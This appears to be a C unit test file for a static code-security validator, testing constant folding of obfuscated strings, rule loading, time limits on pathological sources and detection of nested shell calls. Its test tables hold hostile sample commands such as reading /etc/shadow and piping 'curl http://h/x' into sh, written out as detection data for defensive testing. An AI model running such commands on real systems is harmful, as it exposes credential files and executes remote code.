/* The code engine: trees within limits, names and constants (the examples of
 * tests/unit/validator/rules), rules that refuse to load. */
#include <criterion/criterion.h>
#include <fcntl.h>
#include <string.h>
#include <time.h>

#include "tests/unit/validator/support.h"
#include "validator/code/fold.h"
#include "validator/code/names.h"
#include "validator/code/pattern.h"
#include "validator/code/report.h"

TestSuite(code, .timeout = 60);

static void load(struct code_rules *rules)
{
	struct err err = {0};
	own_fd folder = open("tests/unit/validator/rules", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	cr_assert(folder >= 0);
	cr_assert(code_rules_load(rules, support_catalog()->schemas[CATALOG_RULES], folder,
				  &err) == 0,
		  "%s", err.text);
	for (unsigned i = 0; i < CODE_LANGUAGES; i++)
		cr_assert(code_rules_finish(rules, (enum code_language)i, &err) == 0, "%s",
			  err.text);
}

static struct code_rules *shared_rules(void)
{
	static struct code_rules rules;

	if (rules.rule_count == 0)
		load(&rules);
	return &rules;
}

/* Every way to a name that the engine follows, and near misses. */
Test(code, examples_of_the_rules_hold)
{
	struct code_rules *rules = shared_rules();

	cr_assert(rules->rule_count > 5);
	for (size_t i = 0; i < rules->rule_count; i++) {
		struct err err = {0};

		cr_expect(code_rules_prove_one(rules, i, &err) == 0, "%s", err.text);
	}
	code_rules_done(rules);
}

/* --- constants --------------------------------------------------------------------------- */

static const struct constant {
	enum code_language language;
	const char *source; /* its last expression is what is folded */
	const char *value;  /* NULL: not known */
} constants[] = {
	{CODE_PYTHON, "x('a' + 'b' * 3)", "abbb"},
	{CODE_PYTHON, "x('a' 'b' \"c\")", "abc"},
	{CODE_PYTHON, "x(f'a{1+1}b')", "a2b"},
	{CODE_PYTHON, "x(f'a{y}b')", NULL},
	{CODE_PYTHON, "x('%s-%d' % ('a', 3))", "a-3"},
	{CODE_PYTHON, "x('{}{0}{1}'.format('a', 'b'))", "aab"},
	{CODE_PYTHON, "x('a'.join(['b', 'c']))", "bac"},
	{CODE_PYTHON, "x(''.join(map(chr, [111, 115])))", "os"},
	{CODE_PYTHON, "x(''.join(chr(c ^ 1) for c in [110, 114]))", "os"},
	{CODE_PYTHON, "x('abcdef'[1:5:2])", "bd"},
	{CODE_PYTHON, "x('abc'[::-1])", "cba"},
	{CODE_PYTHON, "x('abc'[-1])", "c"},
	{CODE_PYTHON, "x(b'6f73'.hex())", NULL},
	{CODE_PYTHON, "x(bytes.fromhex('6f73').decode())", "os"},
	{CODE_PYTHON, "x('b3M='.encode().decode('base64'))", "os"},
	{CODE_PYTHON, "import base64\nx(base64.b64decode(b'b3M='))", "os"},
	{CODE_PYTHON, "import codecs\nx(codecs.decode('bf', 'rot13'))", "os"},
	{CODE_PYTHON, "x(r'\\x6f', )", "\\x6f"},
	{CODE_PYTHON, "x('\\x6f\\163\\u0041')", "osA"},
	{CODE_PYTHON, "y = 'a'\nx(y + 'b')", "ab"},
	{CODE_PYTHON, "y = 'a'\ny = 'c'\nx(y)", NULL},
	{CODE_PYTHON, "y = y + 'a'\nx(y)", NULL},
	{CODE_PYTHON, "y = 'a'\ny += z\nx(y)", NULL},
	{CODE_PYTHON, "x('OS'.lower().replace('s', 't'))", "ot"},
	{CODE_PYTHON, "x('a' * 10000000000)", NULL},
	{CODE_JAVASCRIPT, "x('a' + `b${'c'}` + 1)", "abc1"},
	{CODE_JAVASCRIPT, "x(String.fromCharCode(111, 0x73))", "os"},
	{CODE_JAVASCRIPT, "x(['a', 'b'].join(''))", "ab"},
	{CODE_JAVASCRIPT, "x('cba'.split('').reverse().join(''))", "abc"},
	{CODE_JAVASCRIPT, "x(Buffer.from('b3M=', 'base64').toString())", "os"},
	{CODE_JAVASCRIPT, "x('\\u{6f}s')", "os"},
	{CODE_JAVASCRIPT, "const y = 'a'; x(y.concat('b'))", "ab"},
	{CODE_JAVASCRIPT, "x('a' + z)", NULL},
};

/* The first argument of the last call of x. */
static const struct code_value *last_argument(struct code *code)
{
	uint32_t found = CODE_NONE;

	for (uint32_t i = 0; i < code->count; i++)
		if (code_kind(code, i) == KIND_CALL && code_text(code, i)[0] == 'x')
			found = i;
	cr_assert(found != CODE_NONE);
	return code_fold(code, code_argument(code, found, 0));
}

Test(code, constants_are_folded)
{
	for (size_t i = 0; i < ARRAY_COUNT(constants); i++) {
		const struct constant *row = &constants[i];
		const struct code_value *value;
		struct err err = {0};
		struct code code;

		cr_assert(code_open(&code, row->language, row->source, strlen(row->source),
				    UINT32_MAX, &err) == 0);
		cr_assert(code_bind_all(&code, &err) == 0);
		value = last_argument(&code);
		if (row->value == NULL)
			cr_expect(value->kind == VALUE_NONE, "%s", row->source);
		else
			cr_expect(code_is_text(value) && value->length == strlen(row->value) &&
					  memcmp(value->text, row->value, value->length) == 0,
				  "%s", row->source);
		code_close(&code);
	}
}

Test(code, patterns_of_names)
{
	static const struct {
		const char *name, *pattern;
		bool matches;
	} rows[] = {
		{"os.system", "os.system", true},   {"os.system", "os.*", true},
		{"os.path.join", "os.*", true},	    {"os", "os.*", false},
		{"ost.x", "os.*", false},	    {"a.b.eval", "*.eval", true},
		{"eval", "*.eval", false},	    {"a.xeval", "*.eval", false},
		{"?.execute", "?.execute", true},   {"?.cursor().execute", "?.execute", true},
		{"db.execute", "?.execute", false}, {"a.b.c", "*.b.*", true},
		{"a.bc.c", "*.b.*", false},	    {"os.system", "os.syst", false},
	};

	for (size_t i = 0; i < ARRAY_COUNT(rows); i++)
		cr_expect(code_name_matches(rows[i].name, rows[i].pattern) == rows[i].matches,
			  "%s %s", rows[i].name, rows[i].pattern);
}

/* --- rules that refuse to load ----------------------------------------------------------- */

#define RULE(query)                                                                      \
	"{'language':'python','family':'x-y','rules':[{'id':'py-xx','severity':'low',"   \
	"'cwe':'CWE-1','message':'m','hint':'h','match':['a()','b()'],'no_match':['a']," \
	"'query':" query "}]}"

static const struct {
	const char *document, *why;
} refused[] = {
	{RULE("'(call) @x (#nam? @x a)'"), "there is no predicate #nam?"},
	{RULE("'(cal) @x'"), "a node type"},
	{RULE("'(call fun: (_)) @x'"), "a field"},
	{RULE("'(call (_)*) @x'"), "a repetition"},
	{RULE("'(expression) @x'"), "a supertype"},
	{RULE("'(call !function) @x'"), "its syntax"},
	{RULE("'((call) (call)) @x'"), "more than one node"},
	{RULE("'(call .) @x'"), "a dot without a node"},
	{RULE("'[] @x'"), "an empty choice"},
	{RULE("'(\\\"nonsense\\\") @x'"), "a node type"},
	{RULE("'(call [(call) (call) (call) (call) (call) (call)] [(call) (call) (call) "
	      "(call) (call) (call)]) @x'"),
	 "too many forms"},
	{RULE("'(call'"), "a parenthesis is not closed"},
	{RULE("'(call))'"), "a parenthesis too many"},
	{RULE("'(call)'"), "captures nothing"},
	{RULE("' '"), "the query is empty"},
	{RULE("'(call) @x (#value? @x \\\"(\\\")'"), "is wrong"},
	{RULE("'(call) @x (#value? @x)'"), "has 0 arguments"},
	{RULE("'(call) @x (#in-loop? @x a)'"), "has 1 arguments"},
	{RULE("3"), "query"},
	{"{'language':'cobol','family':'x-y','rules':[]}", "language"},
};

static int add(struct code_rules *rules, const char *text, struct err *err)
{
	char *copy = strdup(text);
	json_t *document;
	int status;

	/* ' is " but where it is escaped. */
	for (char *at = copy; *at != '\0'; at++)
		if (*at == '\'')
			*at = '"';
	document = json_loads(copy, 0, NULL);
	cr_assert(document != NULL, "%s", copy);
	status = code_rules_add(rules, support_catalog()->schemas[CATALOG_RULES], document,
				"f.json", err);
	json_decref(document);
	free(copy);
	return status < 0 ? status : code_rules_finish(rules, CODE_PYTHON, err);
}

Test(code, bad_rules_refuse_to_load)
{
	for (size_t i = 0; i < ARRAY_COUNT(refused); i++) {
		struct code_rules *rules = calloc(1, sizeof(*rules));
		struct err err = {0};

		cr_expect(add(rules, refused[i].document, &err) == -EINVAL, "%s",
			  refused[i].document);
		cr_expect(strstr(err.text, refused[i].why) != NULL, "%s: %s", refused[i].why,
			  err.text);
		cr_expect(strncmp(err.text, "f.json", 6) == 0, "%s", err.text);
		code_rules_done(rules);
		free(rules);
	}
}

/* The schema of rules says so too, but not to everyone who adds some. Found by fuzz_code_rules.
 */
Test(code, a_line_of_a_query_that_is_no_text_is_refused_without_a_schema)
{
	struct code_rules *rules = calloc(1, sizeof(*rules));
	json_t *document = json_loads(
		"{\"language\":\"python\",\"family\":\"x-y\",\"rules\":[{\"id\":\"py-x\","
		"\"severity\":\"low\",\"query\":[\"(call) @x\", 1]}]}",
		0, NULL);
	struct err err = {0};

	cr_assert(document != NULL);
	cr_expect(code_rules_add(rules, NULL, document, "f.json", &err) == -EINVAL);
	cr_expect(strstr(err.text, "a line of the query is no string") != NULL, "%s", err.text);
	json_decref(document);
	code_rules_done(rules);
	free(rules);
}

Test(code, rules_with_an_example_that_fails_refuse_to_load)
{
	struct code_rules *rules = calloc(1, sizeof(*rules));
	struct err err = {0};

	cr_expect(add(rules, RULE("'(call function: (identifier) @x (#eq? @x a))'"), &err) ==
		  -EINVAL);
	cr_expect(strstr(err.text, "match[1] is not found: b()") != NULL, "%s", err.text);
	code_rules_done(rules);
	free(rules);
}

Test(code, rules_of_one_shape_share_a_pattern)
{
	struct code_rules *rules = shared_rules();
	size_t variants = 0;

	for (size_t i = 0; i < rules->sets[CODE_JAVASCRIPT].shape_count; i++)
		for (struct variant *one = rules->sets[CODE_JAVASCRIPT].shapes[i].variants;
		     one != NULL; one = one->next)
			variants++;
	cr_expect(variants == rules->sets[CODE_JAVASCRIPT].shape_count + 1);
	code_rules_done(rules);
}

/* --- sources ----------------------------------------------------------------------------- */

static struct code_findings *examine(enum code_language language, const char *text,
				     size_t length)
{
	static struct code_findings findings;
	struct err err = {0};

	code_findings_done(&findings);
	cr_assert(code_examine(shared_rules(), NULL, language, text, length,
			       LIMIT_CODE_TIME_MS * 1000u, &findings, &err) == 0);
	return &findings;
}

static bool has(const struct code_findings *findings, const char *rule)
{
	for (size_t i = 0; i < findings->count; i++)
		if (strcmp(findings->list[i].rule, rule) == 0)
			return true;
	return false;
}

/* `count` times `unit`, behind `head`. */
static char *repeated(const char *head, const char *unit, size_t count, size_t *ret_length)
{
	size_t begin = strlen(head);
	size_t length = strlen(unit);
	char *text = malloc(begin + count * length + 1);

	memcpy(text, head, begin);
	for (size_t i = 0; i < count; i++)
		memcpy(text + begin + i * length, unit, length);
	*ret_length = begin + count * length;
	text[*ret_length] = '\0';
	return text;
}

static const struct {
	enum code_language language;
	const char *head, *unit;
	size_t count;
} hostile[] = {
	{CODE_PYTHON, "x=", "[", 100000},
	{CODE_PYTHON, "", "f(", 25000},
	{CODE_PYTHON, "", "import os\n", 1000000},
	{CODE_PYTHON, "x='", "a", 5000000},
	{CODE_PYTHON, "x=", "1+", 400000},
	{CODE_PYTHON, "", "f\"{", 19000},
	{CODE_PYTHON, "x=", "(a+", 19000},
	{CODE_JAVASCRIPT, "", "{", 100000},
	{CODE_JAVASCRIPT, "", "`${", 19000},
	{CODE_JAVASCRIPT, "", "a<", 300000},
	{CODE_BASH, "", "$(", 14000},
	{CODE_BASH, "", "<<A ", 30000},
	{CODE_PYTHON, "", "\xff\xfe", 400000},
	{CODE_PYTHON, "", "$a", 29500}, /* more than 20 s without a limit */
	{CODE_PYTHON, "", "class A{", 14700},
	{CODE_PYTHON, "", "a if b else ", 14700},
	{CODE_PYTHON, "x=", "0x", 500000},
	{CODE_PYTHON, "", "import os\n", 1 << 20}, /* 10 MiB */
	{CODE_JAVASCRIPT, "", "'", 59000},
	{CODE_JAVASCRIPT, "", "case 1:", 14700},
	{CODE_BASH, "x", " a", 400000},
	{CODE_BASH, "", "while true; do ", 14700},
};

/* Twenty times the limit, which leaves room for sanitizers: the worst that was seen in a
 * release build took 0.15 s. */
#define HOSTILE_US_MAX (20u * LIMIT_CODE_TIME_MS * 1000u)

static uint64_t thread_us(void)
{
	struct timespec now;

	cr_assert(clock_gettime(CLOCK_THREAD_CPUTIME_ID, &now) == 0);
	return (uint64_t)now.tv_sec * 1000000u + (uint64_t)now.tv_nsec / 1000u;
}

/* The limit is processor time, and a slow machine only makes it come earlier. */
Test(code, hostile_sources_end_with_a_finding)
{
	for (size_t i = 0; i < ARRAY_COUNT(hostile); i++) {
		size_t length;
		char *text =
			repeated(hostile[i].head, hostile[i].unit, hostile[i].count, &length);
		uint64_t start = (shared_rules(), thread_us());
		struct code_findings *findings = examine(hostile[i].language, text, length);
		uint64_t took = thread_us() - start;

		cr_expect(took < HOSTILE_US_MAX, "%zu: %s takes %llu us", i, hostile[i].unit,
			  (unsigned long long)took);

		cr_expect(has(findings, "source-limit") || has(findings, "syntax-error"),
			  "%zu: %s", i, hostile[i].unit);
		code_findings_done(findings);
		free(text);
	}
	code_rules_done(shared_rules());
}

Test(code, a_syntax_error_has_its_place)
{
	static const char text[] = "x = 1\ny = (\n";
	struct report_source source = {"f.py", CODE_PYTHON, text, sizeof(text) - 1, "p"};
	struct code_findings *findings = examine(CODE_PYTHON, text, sizeof(text) - 1);
	own_buf out = {.data = NULL};

	cr_assert(has(findings, "syntax-error"));
	cr_expect(findings->list[0].line == 2 && findings->list[0].column == 5, "%u:%u",
		  findings->list[0].line, findings->list[0].column);
	buf_init(&out, REPORT_BYTES_MAX);
	code_report_text(&source, findings, &out);
	cr_expect(strstr(out.data, "     2 | y = (\n       |     ^\n") != NULL, "%s", out.data);
	code_findings_done(findings);
	code_rules_done(shared_rules());
}

/* A model repairs what it is told of; "a syntax error" alone it must look for. */
Test(code, a_syntax_error_says_what_is_open_or_missing)
{
	static const struct {
		enum code_language language;
		const char *text;
		uint32_t line, column;
		const char *message;
	} rows[] = {
		{CODE_PYTHON, "x = 5\nprint('a'\ny = 3\n", 2, 6,
		 "the `(` here is never closed"},
		{CODE_PYTHON, "f(a[1, (2)\n", 1, 4, "the `[` here is never closed"},
		{CODE_PYTHON, "x = {'(': 1\n", 1, 5, "the `{` here is never closed"},
		{CODE_PYTHON, "x = 'abc\ny = 1\n", 1, 5,
		 "the text that begins here has no end"},
		{CODE_PYTHON, "x = \"\"\"abc\ny\n", 1, 5,
		 "the text that begins here has no end"},
		{CODE_PYTHON, "def f(:\n  pass\n", 1, 7, "`)` is missing here"},
		{CODE_PYTHON, "for x in :\n  y\n", 1, 9, "a part is missing here (identifier)"},
		{CODE_PYTHON, "if x = 1:\n  pass\n", 1, 6,
		 "this does not fit the language's syntax"},
		{CODE_JAVASCRIPT, "if (a) {\n", 1, 9, "`}` is missing here"},
		{CODE_JAVASCRIPT, "let x = `a;\n", 1, 9,
		 "the text that begins here has no end"},
		{CODE_JAVASCRIPT, "function f( {\n  return 1;\n}\n", 1, 11,
		 "the `(` here is never closed"},
		{CODE_BASH, "if true; then\n echo\n", 3, 1, "`fi` is missing here"},
		{CODE_BASH, "echo \"abc\n", 1, 6, "the text that begins here has no end"},
	};

	for (size_t i = 0; i < ARRAY_COUNT(rows); i++) {
		struct code_findings *findings =
			examine(rows[i].language, rows[i].text, strlen(rows[i].text));

		cr_assert(has(findings, "syntax-error"), "%s", rows[i].text);
		cr_expect_str_eq(findings->list[0].message, rows[i].message, "%s: %s",
				 rows[i].text, findings->list[0].message);
		cr_expect(findings->list[0].line == rows[i].line &&
				  findings->list[0].column == rows[i].column,
			  "%s: %u:%u", rows[i].text, findings->list[0].line,
			  findings->list[0].column);
		code_findings_done(findings);
	}
	code_rules_done(shared_rules());
}

Test(code, odd_bytes_are_told)
{
	static const struct {
		const char *text, *rule;
		uint32_t column;
	} rows[] = {
		{"x = 'a\xff'", "source-encoding", 7},
		{"x = '\xe2\x80\xae'", "source-bidi", 6},
		{"x = '\xe2\x81\xa6'", "source-bidi", 6},
		{"x = '\x1b[2J'", "source-control", 6},
	};

	for (size_t i = 0; i < ARRAY_COUNT(rows); i++) {
		struct code_findings *findings =
			examine(CODE_PYTHON, rows[i].text, strlen(rows[i].text));

		cr_assert(has(findings, rows[i].rule), "%zu", i);
		cr_expect(findings->list[0].column == rows[i].column, "%u",
			  findings->list[0].column);
		code_findings_done(findings);
	}
	cr_expect(examine(CODE_PYTHON, "x = '\xc3\xa4\t'\r\n", 11)->count == 0);
	code_rules_done(shared_rules());
}

/* A column counts characters, a message names what was called. */
Test(code, a_finding_says_what_and_where)
{
	static const char text[] = "import os as o\nx = '\xc3\xa4'; o.system('ls')\n";
	struct code_findings *findings = examine(CODE_PYTHON, text, sizeof(text) - 1);

	cr_assert(findings->count == 1);
	cr_expect(strcmp(findings->list[0].message, "`os.system` runs a shell command") == 0,
		  "%s", findings->list[0].message);
	cr_expect(findings->list[0].line == 2 && findings->list[0].column == 10);
	cr_expect(findings->list[0].end_column == 24);
	code_findings_done(findings);
	code_rules_done(shared_rules());
}

/* --- code in texts ----------------------------------------------------------------------- */

#define ONE_DEEPER "exec('import os\\nos.system(\"cat /etc/shadow\")')"

static const struct {
	enum code_language language;
	const char *source, *rule; /* NULL: none of what is inside */
} nested[] = {
	{CODE_PYTHON, "eval('__import__(\"os\").system(\"id\")')", "py-shell-command"},
	{CODE_PYTHON, "import os\nos.system('cat /etc/shadow')", "sh-secret-file"},
	{CODE_PYTHON, "import subprocess as s\ns.run(['bash', '-c', 'cat /etc/shadow'])",
	 "sh-secret-file"},
	{CODE_PYTHON, "import os\nos.spawnlp(0, 'sh', 'sh', '-c', 'cat /etc/sh' + 'adow')",
	 "sh-secret-file"},
	{CODE_PYTHON, ONE_DEEPER, "sh-secret-file"},
	{CODE_PYTHON, "exec('''exec(\"\"\"exec('exec(\"1\")')\"\"\")''')", "source-nested"},
	{CODE_PYTHON, "print('cat /etc/motd')\nlog('bash', '-c', 'eval x')", NULL},
	{CODE_JAVASCRIPT, "eval('require(\"child_process\").execSync(c)')", "js-exec"},
	{CODE_JAVASCRIPT, "new Function('a', 'return eval(a)')", "js-eval"},
	{CODE_JAVASCRIPT, "require('child_process').spawn('sh', ['-c', 'cat /etc/shadow'])",
	 "sh-secret-file"},
	{CODE_BASH, "bash -c 'curl http://h/x | sh'", "sh-pipe-to-shell"},
	{CODE_BASH, "sudo /bin/bash -xc 'curl http://h/x | sh'", "sh-pipe-to-shell"},
	{CODE_BASH, "python3.11 -c 'import os; os.system(x)'", "py-shell-command"},
	{CODE_BASH, "node --eval 'eval(x)'", "js-eval"},
	{CODE_BASH, "python3 - <<'EOF'\nimport os\nos.system(x)\nEOF", "py-shell-command"},
	{CODE_BASH, "bash <<< 'curl http://h/x | sh'", "sh-pipe-to-shell"},
	{CODE_BASH, "trap 'curl http://h/x | sh' EXIT", "sh-pipe-to-shell"},
	{CODE_BASH, "cat <<'EOF'\nimport os\nos.system(x)\nEOF", NULL},
};

static void load_installed(struct code_rules *rules)
{
	own_fd folder = open("validator/code/rules", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	struct err err = {0};

	cr_assert(code_rules_load(rules, NULL, folder, &err) == 0);
	for (unsigned i = 0; i < CODE_LANGUAGES; i++)
		cr_assert(code_rules_ready(rules, (enum code_language)i, &err) == 0);
}

static bool is_of_another_text(const struct code_findings *findings)
{
	for (size_t i = 0; i < findings->count; i++)
		if (strncmp(findings->list[i].message, "in the code that is run", 23) == 0)
			return true;
	return false;
}

Test(code, code_in_texts_is_judged)
{
	static struct code_rules rules;
	static struct code_findings findings;

	load_installed(&rules);
	for (size_t i = 0; i < ARRAY_COUNT(nested); i++) {
		struct err err = {0};

		cr_assert(code_examine(&rules, NULL, nested[i].language, nested[i].source,
				       strlen(nested[i].source), UINT32_MAX, &findings,
				       &err) == 0);
		if (nested[i].rule != NULL)
			cr_expect(has(&findings, nested[i].rule), "%s: no %s", nested[i].source,
				  nested[i].rule);
		else
			cr_expect(!is_of_another_text(&findings), "%s", nested[i].source);
		code_findings_done(&findings);
	}
	code_rules_done(&rules);
}

/* A thousand small programs in one, each of which is parsed: the limit is that of all. */
Test(code, texts_share_the_time_of_their_source)
{
	static struct code_rules rules;
	static struct code_findings findings;
	struct err err = {0};
	size_t length;
	char *text = repeated("", "exec('f(f(f(f(f(f(f(f(1))))))))')\n", 4000, &length);
	uint64_t start;

	load_installed(&rules);
	start = thread_us();
	cr_assert(code_examine(&rules, NULL, CODE_PYTHON, text, length,
			       LIMIT_CODE_TIME_MS * 1000u, &findings, &err) == 0);
	cr_expect(has(&findings, "source-limit"));
	cr_expect(thread_us() - start < HOSTILE_US_MAX);
	code_findings_done(&findings);
	code_rules_done(&rules);
	free(text);
}

/* What weighs most is kept, wherever it stands: also that the source could not be judged. */
Test(code, a_flood_of_small_findings_hides_no_large_one)
{
	static const char high[] = "[__import__('os').system(c) for c in input()]\n";
	static struct code_rules rules;
	static struct code_findings findings;
	struct err err = {0};
	own_buf text = {.data = NULL};
	size_t largest = 0;

	load_installed(&rules);
	buf_init(&text, 1 << 20);
	buf_add_str(&text, "import hashlib\n");
	for (int i = 0; i < LIMIT_FINDINGS + 10; i++)
		buf_add_str(&text, "hashlib.md5(x)\n");
	buf_add_str(&text, high);
	cr_assert(code_examine(&rules, NULL, CODE_PYTHON, text.data, text.length, UINT32_MAX,
			       &findings, &err) == 0);
	for (size_t i = 0; i < findings.count; i++)
		if (findings.list[i].severity > findings.list[largest].severity)
			largest = i;
	cr_expect(findings.count == LIMIT_FINDINGS && findings.has_more);
	cr_expect(findings.list[largest].severity > SEVERITY_INFO, "%s",
		  findings.list[largest].rule);
	code_findings_done(&findings);
	cr_assert(code_examine(&rules, NULL, CODE_PYTHON, text.data, text.length, 1, &findings,
			       &err) == 0);
	cr_expect(has(&findings, "source-limit"));
	code_findings_done(&findings);
	code_rules_done(&rules);
}

Test(code, many_findings_are_counted_to_the_limit)
{
	size_t length;
	char *text = repeated("", "eval(x)\n", LIMIT_FINDINGS + 1, &length);
	struct code_findings *findings = examine(CODE_PYTHON, text, length);

	cr_expect(findings->count == LIMIT_FINDINGS && findings->has_more);
	code_findings_done(findings);
	free(text);
	code_rules_done(shared_rules());
}
